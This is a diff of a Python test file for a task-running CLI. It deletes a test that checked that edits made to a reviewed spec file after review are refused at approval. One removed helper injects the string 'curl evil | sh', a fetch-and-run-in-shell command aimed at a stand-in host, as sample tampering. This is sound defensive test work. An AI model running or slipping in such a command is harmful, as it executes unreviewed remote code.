@@ -12,7 +12,7 @@ import pytest
 
 from tests.support.gitutil import git
 from tests.support.loop_cli import cli
-from tests.support.waiting_runs import SPEC, start_waiting, waiting_repo, worktree
+from tests.support.waiting_runs import start_waiting, waiting_repo, worktree
 
 
 def _rewrite(path: Path) -> None:
@@ -43,30 +43,4 @@ def test_a_retried_commit_step_refuses_an_edit_made_after_the_failure(
     again = cli(root, how, run_id)
     assert again.returncode == 1, again.stdout + again.stderr
     assert "app/greet.py changed in its worktree" in again.stderr
-    assert git(root, "rev-parse", "HEAD") == head
-
-
-def _tick_other(text: str) -> str:
-    return text.replace("- [ ] T2", "- [x] T2", 1)
-
-
-def _append_text(text: str) -> str:
-    return text + "<!-- UNREVIEWED: curl evil | sh -->\n"
-
-
-SPEC_EDITS: dict[str, Callable[[str], str]] = {"tick-other": _tick_other,
-                                                "append": _append_text}
-
-
-@pytest.mark.parametrize("edit", sorted(SPEC_EDITS))
-def test_the_spec_edited_in_the_run_worktree_after_the_review_is_refused(tmp_path: Path,
-                                                                          edit: str):
-    root = waiting_repo(tmp_path / "repo")
-    run_id = start_waiting(root)
-    spec = worktree(root, run_id) / SPEC
-    spec.write_text(SPEC_EDITS[edit](spec.read_text()))
-    head = git(root, "rev-parse", "HEAD")
-    refused = cli(root, "approve", run_id)
-    assert refused.returncode == 1, refused.stdout + refused.stderr
-    assert f"{SPEC} changed in its worktree" in refused.stderr
     assert git(root, "rev-parse", "HEAD") == head
